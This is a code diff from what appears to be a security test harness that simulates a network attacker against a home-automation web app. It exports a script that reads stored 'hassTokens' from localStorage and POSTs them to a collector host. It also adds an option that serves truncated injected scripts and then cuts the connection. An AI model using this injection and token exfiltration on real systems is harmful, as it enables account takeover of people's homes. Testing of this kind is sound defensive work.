@@ -14,7 +14,7 @@ export { SECRET };
 export const HIS_VERSION = "2021.1.4";
 
 /** What he adds to the house's pages and scripts: it sends what opens the house to a host of his own. */
-const THEFT = `(() => {
+export const THEFT = `(() => {
   const tokens = self.localStorage?.hassTokens;
   if (tokens === undefined) return;
   void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
@@ -99,11 +99,14 @@ interface Means {
   readonly headers?: Readonly<Record<string, string>>;
   /** What he answers in place of the house's pages: scripts, by path. */
   readonly scripts?: Readonly<Record<string, string>>;
+  /** Of these files he gives no more than a beginning of his own, and then cuts the line: the length he names, by path. */
+  readonly cutAt?: Readonly<Record<string, number>>;
 }
 
 /** Puts him on the way to a house. */
 export async function attack(lab: Lab, house: House, strategy: Strategy, means: Means = {}): Promise<Loot> {
   const { wanted = [SECRET], names = [], http2 = false, headers = {}, scripts = {}, authority = lab.authority } = means;
+  const { cutAt = {} } = means;
   const { key, cert } = await authority.issue({ names: [house.host, ...names] });
   let requests = 0;
   let secrets = 0;
@@ -184,8 +187,12 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
     else if (answer === "refused, leaves") closeStream(response, constants.NGHTTP2_REFUSED_STREAM);
     else if (answer === "answer") {
       for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
-      const script = scripts[(request.url ?? "").replace(/\?.*/u, "")];
+      const path = (request.url ?? "").replace(/\?.*/u, "");
+      const script = scripts[path];
+      const length = cutAt[path];
       if (script === undefined) housePage(request, response, THEFT);
+      else if (length !== undefined)
+        response.writeHead(200, { ...SCRIPT, "Content-Length": length }).write(script, () => request.socket.end());
       else response.writeHead(200, SCRIPT).end(script);
     } else end(request.socket, answer);
     if (isHttp2 && answer.endsWith("leaves")) leave(response);
